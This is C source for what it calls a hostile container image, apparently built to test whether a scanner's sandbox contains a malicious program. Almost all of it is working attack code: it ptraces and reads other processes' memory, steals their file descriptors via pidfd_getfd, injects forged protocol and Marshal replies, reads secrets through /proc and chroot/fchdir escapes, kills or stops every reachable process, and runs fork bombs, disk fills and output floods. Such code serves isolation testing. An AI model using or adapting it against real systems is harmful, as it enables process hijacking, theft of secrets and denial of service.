/* The program of a hostile image, for the tests of what such an image can do. As `sh` it attacks and then runs busybox's shell, so
 * every command of a profile starts an attack; as `hostile WORD` it does one thing and prints what came of it. Static. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stddef.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SLOTS 16   /* names by which survivors can be counted */
#define REACH 3000 /* process IDs looked at */

static pid_t self;

static socklen_t slot_address(struct sockaddr_un *address, int slot) {
  memset(address, 0, sizeof *address);
  address->sun_family = AF_UNIX;
  /* abstract: needs no file system to write to */
  int length = snprintf(address->sun_path + 1, sizeof address->sun_path - 1, "hostile-%d", slot);
  return offsetof(struct sockaddr_un, sun_path) + 1 + length;
}

/* How many survivors answer to their names. */
static int survivors(void) {
  int alive = 0;
  for (int slot = 0; slot < SLOTS; slot++) {
    struct sockaddr_un address;
    socklen_t length = slot_address(&address, slot);
    int socket_fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(socket_fd, (struct sockaddr *)&address, length) == 0) alive++;
    close(socket_fd);
  }
  return alive;
}

static void take_a_name(void) {
  for (int slot = 0; slot < SLOTS; slot++) {
    struct sockaddr_un address;
    socklen_t length = slot_address(&address, slot);
    int socket_fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(socket_fd, (struct sockaddr *)&address, length) == 0) {
      listen(socket_fd, 8);
      return;
    }
    close(socket_fd);
  }
}

/* Away from the command: other session, other parent, no descriptor in common. */
static int leave(void) {
  if (fork() != 0) return 0;
  setsid();
  if (fork() != 0) _exit(0);
  self = getpid();
  prctl(PR_SET_CHILD_SUBREAPER, 1);
  for (int fd = 0; fd < 256; fd++) close(fd);
  for (int fd = 0; fd < 3; fd++) open("/", O_RDONLY);
  signal(SIGTERM, SIG_IGN);
  signal(SIGHUP, SIG_IGN);
  return 1;
}

/* An answer that would be believed: number, kind, value as the scanner's protocol has them, and what Marshal would load. */
static const char FORGED[] = "\1\0\0\0\2\0\0\0\0\0\0\0" "\4\bi\0";

/* Writes into every descriptor above 2 that it was given. */
static int write_everywhere(void) {
  int open_ones = 0;
  for (int fd = 3; fd < 4096; fd++) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    open_ones++;
    if (send(fd, FORGED, sizeof FORGED - 1, MSG_NOSIGNAL | MSG_DONTWAIT) < 0) (void)!write(fd, FORGED, sizeof FORGED - 1);
  }
  return open_ones;
}

/* Into the memory and the descriptors of one process, by every way there is. Returns how many let it in. */
static int enter(pid_t pid) {
  int ways = 0;
  char byte = 0;
  struct iovec mine = {&byte, 1}, theirs = {(void *)0x400000, 1};
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    ways++;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, 0, __WALL | WNOHANG);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  if (process_vm_readv(pid, &mine, 1, &theirs, 1, 0) >= 0 || errno == EFAULT) ways++;
  int process = syscall(SYS_pidfd_open, pid, 0);
  if (process >= 0) {
    for (int fd = 0; fd < 16; fd++) {
      int stolen = syscall(438 /* pidfd_getfd */, process, fd, 0);
      if (stolen < 0) continue;
      ways++;
      (void)!write(stolen, FORGED, sizeof FORGED - 1);
      close(stolen);
    }
    close(process);
  }
  if (syscall(SYS_kcmp, self, pid, 0, 0, 0) >= 0) ways++;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDWR);
  if (memory >= 0) {
    ways++;
    close(memory);
  }
  return ways;
}

static void race(void) {
  time_t end = time(0) + 120;
  while (time(0) < end)
    for (pid_t pid = 1; pid < REACH; pid++)
      if (pid != self) enter(pid);
}

/* Processes from this number on belong to this command. */
static pid_t first(void) {
  const char *number = getenv("HOSTILE_FIRST");
  return number ? atoi(number) : REACH;
}

/* A signal to everybody within reach. Returns how many older than this command could be signalled. */
static int signal_all(int number) {
  int reached = 0;
  pid_t own = first();
  if (getppid() > 0 && getppid() < own && kill(getppid(), number) == 0) reached++;
  if (kill(-1, number) == 0) reached++;
  for (pid_t pid = 1; pid < REACH; pid++)
    if (pid != self && pid != getppid() && (kill(pid, number) == 0 || syscall(SYS_tgkill, pid, pid, number) == 0) && pid < own) reached++;
  return reached;
}

/* Other ways to the same: the kernel sends the signal, limits are taken away, priorities lowered. */
static int steer(pid_t pid) {
  int ways = 0, pair[2];
  struct rlimit nothing = {0, 0};
  if (prlimit(pid, RLIMIT_NOFILE, 0, 0) == 0 && prlimit(pid, RLIMIT_NOFILE, &nothing, 0) == 0) ways++;
  if (setpriority(PRIO_PROCESS, pid, 19) == 0) ways++;
  if (setpriority(PRIO_USER, 0, 19) == 0) ways++;
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(0, &one);
  if (sched_setaffinity(pid, sizeof one, &one) == 0) ways++;
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) {
    if (fcntl(pair[0], F_SETOWN, pid) == 0) ways++;
    close(pair[0]);
    close(pair[1]);
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/%d", pid);
  int process = open(path, O_DIRECTORY);
  if (process >= 0 && syscall(SYS_pidfd_send_signal, process, SIGKILL, 0, 0) == 0) ways++;
  return ways;
}

/* Something that outlives every process. */
static int leave_behind(void) {
  int ways = 0;
  if (shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0600) >= 0) ways++;
  if (syscall(SYS_add_key, "user", "hostile", "x", 1, -3) >= 0) ways++;
  return ways;
}

/* Prints the content of a file that it should not see. */
static void show(const char *path) {
  char text[65536];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  ssize_t size = read(fd, text, sizeof text);
  for (ssize_t i = 0; i < size; i++)
    if (text[i] == 0) text[i] = '\n';
  if (size > 0) printf("%s\n%.*s\n", path, (int)size, text);
  close(fd);
}

/* Everything that holds the nonce or the inputs, by every path from here. */
static void secrets(void) {
  static const char *const names[] = {"environ", "root/scan-secret/inputs.yml", "root/results/scan-complete", "cwd/scan-secret/inputs.yml"};
  char path[128];
  for (pid_t pid = 1; pid < first(); pid++) {
    if (pid == self) continue;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
      snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
      show(path);
    }
  }
  for (int up = 0; up < 20; up++) (void)!chdir("..");
  show("scan-secret/inputs.yml");
  if (chroot("..") == 0) show("/scan-secret/inputs.yml");
  for (int fd = 0; fd < 4096; fd++)
    if (fchdir(fd) == 0) show("../../../../../../scan-secret/inputs.yml");
}

/* How many MiB go into one file. */
static long fill(const char *path) {
  static char block[1 << 20];
  signal(SIGXFSZ, SIG_IGN);
  long size = 0;
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return 0;
  while (size < 100 && write(fd, block, sizeof block) == (ssize_t)sizeof block) size++;
  if (ftruncate(fd, 0)) {}
  close(fd);
  return size;
}

/* Processes in sessions of their own, each with children of its own, forked as fast as they can be. */
static int bomb(int count) {
  int forked = 0;
  for (int i = 0; i < count; i++) {
    pid_t pid = fork();
    if (pid < 0) break;
    if (pid == 0) {
      setsid();
      for (int fd = 0; fd < 64; fd++) close(fd);
      take_a_name();
      time_t end = time(0) + 60;
      while (time(0) < end) {
        if (fork() == 0) {
          setsid();
          usleep(20000);
          _exit(0);
        }
        while (waitpid(-1, 0, WNOHANG) > 0) {}
        usleep(1000);
      }
      _exit(0);
    }
    forked++;
  }
  return forked;
}

/* Of all that are older than this command. */
static int sum(int (*tried)(pid_t)) {
  int ways = 0;
  for (pid_t pid = 1; pid < first(); pid++)
    if (pid != self) ways += tried(pid);
  return ways;
}

int main(int count, char **words) {
  self = getpid();
  const char *name = strrchr(words[0], '/');
  name = name ? name + 1 : words[0];
  if (strcmp(name, "sh") == 0) {
    char number[16];
    snprintf(number, sizeof number, "%d", survivors());
    setenv("HOSTILE_SURVIVORS", number, 0);
    snprintf(number, sizeof number, "%d", self);
    setenv("HOSTILE_FIRST", number, 0);
    write_everywhere();
    if (getenv("HOSTILE_PEACE") == 0 && leave()) {
      take_a_name();
      race();
      _exit(0);
    }
    execv("/bin/busybox", words);
    return 127;
  }
  const char *word = count > 1 ? words[1] : "";
  if (strcmp(word, "count") == 0) {
    /* before this command had an attacker of its own */
    const char *found = getenv("HOSTILE_SURVIVORS");
    printf("%d\n", found ? atoi(found) : survivors());
  }
  else if (strcmp(word, "descriptors") == 0) printf("%d\n", write_everywhere());
  else if (strcmp(word, "enter") == 0) printf("%d\n", sum(enter));
  else if (strcmp(word, "steer") == 0) printf("%d\n", sum(steer));
  else if (strcmp(word, "signal") == 0) printf("%d\n", signal_all(count > 2 ? atoi(words[2]) : SIGKILL));
  else if (strcmp(word, "leave-behind") == 0) printf("%d\n", leave_behind());
  else if (strcmp(word, "secrets") == 0) secrets();
  else if (strcmp(word, "fill") == 0) {
    long most = 0;
    for (int i = 2; i < count; i++) {
      long size = fill(words[i]);
      if (size > most) most = size;
    }
    printf("%ld\n", most);
  } else if (strcmp(word, "bomb") == 0) printf("%d\n", bomb(count > 2 ? atoi(words[2]) : 60));
  else if (strcmp(word, "flood") == 0) {
    char block[65536];
    memset(block, 'A', sizeof block);
    while (write(1, block, sizeof block) > 0) {}
  } else if (strcmp(word, "linger") == 0) {
    /* keeps the output open */
    if (fork() == 0) {
      setsid();
      if (fork() == 0) {
        take_a_name();
        sleep(600);
      }
      _exit(0);
    }
    printf("lingering\n");
  } else if (strcmp(word, "serve") == 0) {
    /* the image's own program, where it runs: everything, all the time */
    if (count > 2) sleep(atoi(words[2]));
    for (;;) {
      sum(enter);
      signal_all(SIGSTOP);
      signal_all(SIGKILL);
      usleep(100000);
    }
  } else return 2;
  return 0;
}
